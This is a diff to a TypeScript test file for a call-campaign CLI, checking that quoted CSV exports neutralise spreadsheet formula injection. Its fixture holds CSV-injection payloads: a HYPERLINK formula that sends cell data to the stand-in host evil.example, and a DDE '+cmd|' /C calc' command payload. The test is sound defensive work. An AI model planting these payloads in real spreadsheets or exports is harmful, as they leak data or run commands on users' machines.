@@ -9,6 +9,7 @@ import { mkdtempSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, type TestContext, test } from 'vitest';
 import { type CliIo, EXIT, main, USAGE } from '../../clients/cli/main.ts';
 import { type LocalStack, startLocalStack } from '../../tools/local/stack.ts';
@@ -418,11 +419,11 @@ describe('commands on the run-controls API', () => {
     expect(csv.code, csv.stderr).toBe(EXIT.ok);
     const [header, ...rows] = csv.stdout.trim().split('\n');
     expect(header).toMatch(
-      /^job_id,phone,status,outcome,attempts,error_code,call_sid,queued_at,dialed_at,answered_at,ended_at/,
+      /^"job_id","phone","status","outcome","attempts","error_code","call_sid","queued_at","dialed_at","answered_at","ended_at"/,
     );
     expect(rows).toHaveLength(1);
-    expect(rows[0]).toContain(`,${INVALID_NUMBER},failed,`);
-    expect(rows[0]).toContain('Lead 1');
+    expect(rows[0]).toContain(`,"${INVALID_NUMBER}","failed",`);
+    expect(rows[0]).toContain('"Lead 1"');
 
     const json = await cli(['calls', runId, '--format', 'json', '--limit', '3']);
     const calls = JSON.parse(json.stdout) as { status: string; phone: string }[];
@@ -435,6 +436,52 @@ describe('commands on the run-controls API', () => {
     expect(table.stdout.trim().split('\n')).toHaveLength(5);
     const unknown = await cli(['calls', 'no-such-run']);
     expect(unknown.code).toBe(EXIT.notFound);
+  });
+});
+
+describe('calls --format csv opened in a spreadsheet', () => {
+  test('lead fields that would run as formulas are neutralised, phone numbers kept; the export starts a run again', async (ctx) => {
+    await requireRoute(ctx, 'GET', '/runs/x/calls');
+    // Valid Israeli mobiles (libphonenumber-js max), not used by any other test here.
+    const dana = '+972524567101';
+    const noa = '+972534881202';
+    const path = file(
+      'formulas.csv',
+      'phone,name,note,balance\n' +
+        `${dana},"=HYPERLINK(""https://evil.example/?""&A2,""Dana"")",@SUM(1+1),-120\n` +
+        `${noa},Noa,"+cmd|' /C calc'!A0",+35\n`,
+    );
+    const created = await cli(['runs', 'create', path, '--concurrency', '2', '--watch']);
+    expect(created.code, created.stderr).toBe(EXIT.ok);
+    const runId = created.stdout.split('\n')[0]!;
+
+    const exported = await cli(['calls', runId, '--format', 'csv', '--reveal-phone']);
+    expect(exported.code, exported.stderr).toBe(EXIT.ok);
+    // Every cell quoted, the header's too.
+    expect(exported.stdout.split('\n')[0]).toMatch(/^"job_id","phone"(,"[a-z_]+")+$/);
+    const [header, ...rows] = parseCsv(exported.stdout) as string[][];
+    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]);
+    expect(column('phone')).toEqual([dana, noa]);
+    expect(column('name')).toEqual([`'=HYPERLINK("https://evil.example/?"&A2,"Dana")`, 'Noa']);
+    expect(column('note')).toEqual(["'@SUM(1+1)", "'+cmd|' /C calc'!A0"]);
+    expect(column('balance')).toEqual(['-120', '+35']);
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=@]|^[+-](?!\d+$)/);
+
+    // Masked numbers are written as the API lists them, not quoted away.
+    const masked = parseCsv((await cli(['calls', runId, '--format', 'csv'])).stdout) as string[][];
+    expect(masked.slice(1).map((row) => row[1])).toEqual(['+972*******01', '+972*******02']);
+
+    // The export of whole numbers is a leads file: the numbers read back as E.164, fields as text.
+    const again = await cli(['runs', 'create', file('export.csv', exported.stdout), '--concurrency', '2']);
+    expect(again.code, again.stderr).toBe(EXIT.ok);
+    const rerun = again.stdout.trim();
+    await waitForStatus(rerun, ['completed']);
+    const calls = JSON.parse((await cli(['calls', rerun, '--format', 'json', '--reveal-phone'])).stdout) as {
+      phone: string;
+      attributes: Record<string, string>;
+    }[];
+    expect(calls.map((call) => call.phone)).toEqual([dana, noa]);
+    expect(calls[0]!.attributes).toMatchObject({ name: column('name')[0], balance: '-120' });
   });
 });
 
